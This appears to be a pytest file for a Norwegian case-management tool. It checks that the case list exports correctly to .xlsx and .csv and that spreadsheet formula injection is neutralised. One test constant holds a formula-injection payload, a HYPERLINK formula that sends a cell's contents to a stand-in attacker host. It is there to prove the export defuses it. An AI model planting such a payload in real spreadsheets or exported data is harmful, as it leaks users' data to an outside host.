"""The case list as .xlsx and .csv: the same cases as the list with its filters, read back;
and a title written to become a formula stays text."""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook

from tillitsvalgt.db import Database
from tillitsvalgt.services.cases import CaseQuery, list_cases
from tillitsvalgt.services.spreadsheet import HEADERS, case_rows, to_csv, to_xlsx
from tillitsvalgt.vocabulary import CASE_TYPES

from conftest import make_case, make_employer, run_cli

HOSTILE = '=HYPERLINK("http://angriper.invalid/?"&A1;"Klikk")'


def _fill(db: Database, n: int) -> None:
    employer = make_employer(db)
    for i in range(n):
        make_case(
            db,
            employer,
            title=f"Sak nummer {i}" if i else HOSTILE,
            case_type="home_office_policy" if i % 2 else "office_layout",
            notice_on=date(2026, 3, 1 + i % 28),
        )


def test_every_page_of_the_filtered_list_is_exported_in_the_lists_order(db: Database) -> None:
    _fill(db, 23)
    query = CaseQuery(case_type="home_office_policy", sort="number", descending=False, limit=5)
    with db.session(readonly=True) as s:
        rows = list(case_rows(query, session=s))
        shown = list_cases(query, session=s)
    assert shown.total == 11
    assert [r.number for r in rows][:5] == [r.number for r in shown.rows]
    assert len(rows) == 11 and all(r.case_type == "home_office_policy" for r in rows)


def test_xlsx_and_csv_read_back_with_labels_dates_and_no_formula(db: Database) -> None:
    _fill(db, 3)
    with db.session(readonly=True) as s:
        rows = list(case_rows(CaseQuery(sort="number", descending=False), session=s))
    book = load_workbook(io.BytesIO(to_xlsx(rows)))
    sheet = book.active
    assert sheet is not None
    values = list(sheet.values)
    assert values[0] == HEADERS
    first = values[1]
    assert first[1] == HOSTILE  # the text, not a formula
    assert sheet["B2"].data_type == "s"
    assert first[3] == CASE_TYPES["office_layout"]
    assert first[7].date() == rows[0].notice_on  # type: ignore[union-attr]
    assert len(values) == 4

    data = to_csv(rows)
    assert data.startswith("\ufeff".encode())
    table = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    assert tuple(table[0]) == HEADERS
    assert table[1][1] == "'" + HOSTILE
    assert table[1][7] == rows[0].notice_on.strftime("%d.%m.%Y")  # type: ignore[union-attr]
    assert [r[0] for r in table[1:]] == [r.number for r in rows]


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])  # tab/CR first are stripped on input
def test_every_formula_prefix_is_defused_in_csv(db: Database, start: str) -> None:
    make_case(db, make_employer(db), title=f"{start}1+1 kontor")
    with db.session(readonly=True) as s:
        rows = list(case_rows(CaseQuery(), session=s))
    table = list(csv.reader(io.StringIO(to_csv(rows).decode("utf-8-sig")), delimiter=";"))
    assert table[1][1].startswith("'")


def test_cli_writes_the_filtered_list_and_refuses_other_extensions(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, sqlite_db: Database
) -> None:
    _fill(sqlite_db, 6)
    url = sqlite_db.location.url
    target = tmp_path / "saker.xlsx"
    code, out, err = run_cli(
        capsys, "--database-url", url, "cases", "--type", "office_layout", "--out", str(target)
    )
    assert code == 0, err
    assert "3 saker er skrevet" in out
    sheet = load_workbook(target).active
    assert sheet is not None and sheet.max_row == 4
    assert target.stat().st_mode & 0o077 == 0
    code, _, err = run_cli(capsys, "--database-url", url, "cases", "--out", str(tmp_path / "x.ods"))
    assert code != 0
    assert ".xlsx eller .csv" in err
    assert not (tmp_path / "x.ods").exists()
